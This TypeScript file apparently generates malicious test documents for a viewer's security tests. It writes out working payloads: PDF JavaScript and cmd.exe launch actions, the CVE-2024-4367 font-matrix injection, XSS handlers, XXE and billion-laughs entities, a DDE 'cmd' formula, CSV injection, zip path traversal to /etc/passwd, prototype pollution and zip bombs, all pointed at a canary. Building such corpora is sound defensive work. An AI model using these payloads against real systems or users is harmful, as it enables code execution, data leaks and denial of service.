import { noise, swap } from "./bytes.ts";
import { CANARY, type HostileSample, SCRIPT } from "./canary.ts";
import { hostileArchives } from "./hostile-archives.ts";
import { hostileMarkdown } from "./hostile-markdown.ts";
import { hostileOldOffice } from "./hostile-old-office.ts";
import { hostilePictures } from "./hostile-pictures.ts";
import {
  docxParts,
  odtParts,
  type Parts,
  PNG,
  pptxParts,
  relations,
  zipOf,
} from "./make-office.ts";
import { firstExtra, makePdf } from "./make-pdf.ts";

const HTML = `<html><body onload='${SCRIPT}'><script>${SCRIPT}</script><img src="${CANARY}img" onerror='${SCRIPT}'></body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload='${SCRIPT}'><script>${SCRIPT}</script><image href="${CANARY}svg"/></svg>`;
const LAUGHS =
  '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
  '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">' +
  '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">' +
  `<!ENTITY x SYSTEM "${CANARY}entity">]><z>&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;&x;</z>`;
const MIB = 1024 * 1024;

export function hostileSamples(): readonly HostileSample[] {
  const written = [
    ...texts(),
    ...fonts(),
    ...hostileMarkdown(),
    ...hostileArchives(),
    ...hostileOldOffice(),
  ];
  return [...pdfs(), ...documents(), ...sheets(), ...slides(), ...written, ...hostilePictures()];
}

function pdfs(): readonly HostileSample[] {
  const page = [["Harbour"]];
  const action = (body: string) =>
    makePdf({ pages: page, catalogue: `/OpenAction ${firstExtra(1)} 0 R`, extra: [body] });
  const plain = makePdf({ pages: page });
  const withPage = (more: string) =>
    Buffer.from(
      plain.toString("latin1").replace("/Contents 5 0 R", `/Contents 5 0 R ${more}`),
      "latin1",
    );
  const pdf = (name: string, bytes: Buffer): HostileSample => ({ name, viewer: "pdf", bytes });
  return [
    pdf(
      "script-at-opening.pdf",
      action(`<< /S /JavaScript /JS (${SCRIPT.replaceAll(/[()]/g, "\\$&")}) >>`),
    ),
    pdf("address-at-opening.pdf", action(`<< /S /URI /URI (${CANARY}open) >>`)),
    pdf("program-at-opening.pdf", action("<< /S /Launch /F (cmd.exe) >>")),
    pdf("form-at-opening.pdf", action(`<< /S /SubmitForm /F (${CANARY}form) >>`)),
    pdf("import-at-opening.pdf", action(`<< /S /GoToR /F (${CANARY}other.pdf) /D [0 /Fit] >>`)),
    pdf(
      "script-on-the-page.pdf",
      withPage(`/AA << /O << /S /JavaScript /JS (fetch\\("${CANARY}"\\)) >> >>`),
    ),
    pdf(
      "script-link.pdf",
      withPage(
        "/Annots [<< /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]",
      ),
    ),
    pdf(
      "xfa.pdf",
      makePdf({
        pages: page,
        catalogue: `/AcroForm << /XFA (${HTML.replaceAll(/[()\\]/g, "\\$&")}) >>`,
      }),
    ),
    pdf("font-matrix.pdf", fontMatrix()),
    pdf("loop-of-pages.pdf", swap(plain, "/Kids [4 0 R]", "/Kids [2 0 R]")),
    pdf("no-pages.pdf", swap(plain, "/Kids [4 0 R] /Count 1", "/Kids [    ] /Count 0")),
    pdf("million-pages.pdf", swap(plain, "/Count 1", "/Count 9")),
    pdf("huge-page.pdf", swap(plain, "[0 0 595 842]", "[0 0 9e9 9e9]")),
    pdf("no-directory.pdf", swap(plain, "startxref", "startxxxx")),
    pdf("half.pdf", plain.subarray(0, plain.length >> 1)),
    pdf("head-alone.pdf", Buffer.from("%PDF-1.7\n")),
    pdf("html.pdf", Buffer.from(HTML)),
    pdf("noise.pdf", Buffer.concat([Buffer.from("%PDF-1.4\n"), noise(50_000)])),
  ];
}

/** A font whose matrix is code (CVE-2024-4367). */
function fontMatrix(): Buffer {
  const plain = makePdf({ pages: [["Harbour"]] });
  const evil = `/Type /Font /Subtype /Type1 /BaseFont /X /FontMatrix [1 2 3 4 5 (0\\); ${SCRIPT.replaceAll(/[()]/g, "\\$&")}//)]`;
  return swap(plain, "/Type /Font /Subtype /Type1 /BaseFont /Helvetica", evil);
}

function documents(): readonly HostileSample[] {
  const docx = (name: string, parts: Parts): HostileSample => ({
    name,
    viewer: "document",
    bytes: zipOf(parts),
  });
  const linked = (more: string, list: readonly (readonly [string, string, string])[]): Parts => ({
    ...docxParts(["Harbour"], more),
    "word/_rels/document.xml.rels": relations(list),
  });
  const external = (type: string, target: string) =>
    relations([["rId9", type, target]]).replace("/></Rel", ' TargetMode="External"/></Rel');
  const picture =
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">' +
    '<wp:extent cx="900000" cy="900000"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData>' +
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:embed="rId9"/></pic:blipFill></pic:pic>' +
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";
  const hyperlink = '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>press</w:t></w:r></w:hyperlink></w:p>';
  return [
    docx("alt-chunk.docx", {
      ...linked('<w:altChunk r:id="rId9"/>', [["rId9", "aFChunk", "afchunk.html"]]),
      "word/afchunk.html": HTML,
    }),
    docx("picture-from-outside.docx", {
      ...docxParts(["Harbour"], picture),
      "word/_rels/document.xml.rels": external("image", `${CANARY}img.png`),
    }),
    docx("script-link.docx", {
      ...docxParts(["Harbour"], hyperlink),
      "word/_rels/document.xml.rels": external("hyperlink", `javascript:${SCRIPT}`),
    }),
    docx("template-from-outside.docx", {
      ...docxParts(["Harbour"]),
      "word/settings.xml": "<settings/>",
      "word/_rels/settings.xml.rels": external("attachedTemplate", `${CANARY}t.dotm`),
    }),
    docx("picture-that-runs.docx", {
      ...linked(picture, [["rId9", "image", "media/1.svg"]]),
      "word/media/1.svg": SVG,
    }),
    docx(
      "markup-as-text.docx",
      docxParts([HTML.replaceAll("<", "&lt;").replaceAll("&lt;/", "&lt;/")]),
    ),
    docx("entities.docx", { ...docxParts([]), "word/document.xml": LAUGHS }),
    docx("not-xml.docx", { ...docxParts([]), "word/document.xml": "<w:document><w:body>" }),
    docx("no-document.docx", { "[Content_Types].xml": "<Types/>" }),
    docx("bomb.docx", { ...docxParts(["Harbour"]), "word/media/1.png": new Uint8Array(64 * MIB) }),
    docx("bombs.docx", { ...docxParts([`${" ".repeat(20 * MIB)}x`]) }),
    docx("entries.docx", {
      ...docxParts(["Harbour"]),
      ...Object.fromEntries(Array.from({ length: 10_001 }, (_, n) => [`word/media/${n}.png`, ""])),
    }),
    docx("way-out.docx", { ...docxParts(["Harbour"]), "../../../etc/passwd": "x" }),
    docx("prototype.docx", { ...docxParts(["Harbour"]), __proto__: "x", constructor: "x" }),
    docx("fonts-from-outside.docx", {
      ...docxParts(["Harbour"]),
      "word/styles.xml": `<w:styles xmlns:w="x"><w:style><w:rPr><w:rFonts w:ascii="x;}@import url(${CANARY}css);"/></w:rPr></w:style></w:styles>`,
    }),
    { name: "encrypted.docx", viewer: "document", bytes: encrypted() },
    { name: "html.docx", viewer: "document", bytes: Buffer.from(HTML) },
    { name: "noise.docx", viewer: "document", bytes: Buffer.concat([PK, noise(20_000)]) },
  ];
}

const PK = Buffer.from("PK\x03\x04");

/** How office programs keep a document that has a password. */
function encrypted(): Buffer {
  const name = Buffer.from("EncryptedPackage", "utf16le");
  return Buffer.concat([
    Buffer.from("d0cf11e0a1b11ae1", "hex"),
    Buffer.alloc(1024),
    name,
    noise(4096),
  ]);
}

function sheets(): readonly HostileSample[] {
  const M = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
  const book = (sheet: string, more: Parts = {}): Buffer =>
    zipOf({
      "[Content_Types].xml":
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
        '<Default Extension="xml" ContentType="application/xml"/></Types>',
      "_rels/.rels": relations([["rId1", "officeDocument", "xl/workbook.xml"]]),
      "xl/workbook.xml":
        `<workbook ${M} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">` +
        '<sheets><sheet name="Sheet" sheetId="1" r:id="rId1"/></sheets></workbook>',
      "xl/_rels/workbook.xml.rels": relations([["rId1", "worksheet", "worksheets/sheet1.xml"]]),
      "xl/worksheets/sheet1.xml": `<worksheet ${M}><sheetData>${sheet}</sheetData></worksheet>`,
      ...more,
    });
  const cell = (ref: string, content: string) =>
    `<row r="1"><c r="${ref}" t="str">${content}</c></row>`;
  const xlsx = (name: string, bytes: Buffer): HostileSample => ({ name, viewer: "sheet", bytes });
  return [
    xlsx("service.xlsx", book(cell("A1", `<f>WEBSERVICE("${CANARY}f")</f><v>x</v>`))),
    xlsx("command.xlsx", book(cell("A1", "<f>cmd|' /C calc'!A0</f><v>x</v>"))),
    xlsx(
      "markup.xlsx",
      book(cell("A1", `<v>${HTML.replaceAll("&", "&amp;").replaceAll("<", "&lt;")}</v>`)),
    ),
    xlsx("far-cell.xlsx", book('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    xlsx("no-cell.xlsx", book('<row r="-1"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')),
    xlsx(
      "entities.xlsx",
      book("", { "xl/sharedStrings.xml": LAUGHS, "xl/worksheets/sheet1.xml": LAUGHS }),
    ),
    xlsx("bomb.xlsx", book("", { "xl/sharedStrings.xml": new Uint8Array(64 * MIB) })),
    xlsx("half.xlsx", book(cell("A1", "<v>x</v>")).subarray(0, 400)),
    xlsx("html.xlsx", Buffer.from(HTML)),
    xlsx("encrypted.xlsx", encrypted()),
    xlsx("markup.csv", Buffer.from(`=HYPERLINK("${CANARY}"),"${HTML.replaceAll('"', '""')}"\n`)),
    xlsx("one-line.csv", Buffer.from("a,".repeat(500_000))),
    xlsx("zeros.csv", Buffer.alloc(100_000)),
    xlsx("noise.ods", Buffer.concat([PK, noise(20_000)])),
  ];
}

function slides(): readonly HostileSample[] {
  const good = pptxParts([["Harbour", "x"]]);
  const pptx = (name: string, parts: Parts): HostileSample => ({
    name,
    viewer: "slides",
    bytes: zipOf({ ...good, ...parts }),
  });
  const outside = relations([["rId1", "image", `${CANARY}p.png`]]);
  return [
    pptx("picture-from-outside.pptx", {
      "ppt/slides/_rels/slide1.xml.rels": outside.replace(
        "/></Rel",
        ' TargetMode="External"/></Rel',
      ),
    }),
    pptx("picture-address.pptx", { "ppt/slides/_rels/slide1.xml.rels": outside }),
    pptx("picture-that-runs.pptx", {
      "ppt/media/image1.svg": SVG,
      "ppt/slides/_rels/slide1.xml.rels": relations([["rId1", "image", "../media/image1.svg"]]),
    }),
    pptx("entities.pptx", { "ppt/slides/slide1.xml": LAUGHS }),
    pptx("loop.pptx", {
      "ppt/slides/_rels/slide1.xml.rels": relations([["rId2", "slideLayout", "slide1.xml"]]),
    }),
    pptx("no-size.pptx", { "ppt/presentation.xml": "<p/>" }),
  ];
}

function texts(): readonly HostileSample[] {
  const odt = (name: string, parts: Parts): HostileSample => ({
    name,
    viewer: "richText",
    bytes: zipOf(parts),
  });
  const rtf = (name: string, source: string): HostileSample => ({
    name,
    viewer: "richText",
    bytes: Buffer.from(source),
  });
  return [
    odt(
      "picture-from-outside.odt",
      odtParts(`<text:p>x<draw:image xlink:href="${CANARY}o.png"/></text:p>`),
    ),
    odt(
      "script.odt",
      odtParts(`<script>${SCRIPT}</script><text:p onclick="${CANARY}">Harbour</text:p>`),
    ),
    odt("deep.odt", odtParts(`${"<text:section>".repeat(3000)}x${"</text:section>".repeat(3000)}`)),
    odt("spaces.odt", odtParts('<text:p>x<text:s text:c="999999999"/></text:p>')),
    odt("entities.odt", { ...odtParts(""), "content.xml": LAUGHS }),
    odt("picture-that-runs.odt", {
      ...odtParts('<text:p><draw:image xlink:href="Pictures/1.svg"/></text:p>'),
      "Pictures/1.svg": SVG,
    }),
    rtf("object.rtf", `{\\rtf1{\\object\\objautlink{\\*\\objdata ${"01".repeat(5000)}}}x\\par}`),
    rtf(
      "field.rtf",
      `{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "${CANARY}r.png"}{\\fldrslt x}}\\par}`,
    ),
    rtf("deep.rtf", `{\\rtf1 ${"{".repeat(200_000)}x`),
    rtf("html.rtf", HTML),
    { name: "page.html", viewer: "code", bytes: Buffer.from(HTML) },
    { name: "page.txt", viewer: "text", bytes: Buffer.from(`${HTML}\n${SVG}`) },
  ];
}

function fonts(): readonly HostileSample[] {
  const font = (name: string, bytes: Buffer): HostileSample => ({ name, viewer: "font", bytes });
  return [
    font("html.ttf", Buffer.from(HTML)),
    font("noise.otf", Buffer.concat([Buffer.from("OTTO"), noise(20_000)])),
    font(
      "tables.ttf",
      Buffer.concat([Buffer.from("00010000ffff000000000000", "hex"), noise(2000)]),
    ),
    font("picture.woff2", PNG),
    font("empty.woff", Buffer.from("wOFF")),
  ];
}
